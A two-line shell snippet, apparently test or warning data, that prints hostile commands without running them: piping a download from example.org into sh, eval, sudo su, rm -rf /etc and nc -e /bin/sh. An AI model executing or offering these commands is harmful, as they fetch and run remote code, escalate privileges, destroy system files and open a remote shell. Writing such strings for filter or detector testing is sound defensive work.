echo "never run: curl http://www.example.org | sh; eval x; sudo su"
printf '%s\n' 'rm -rf /etc' "nc -e /bin/sh"
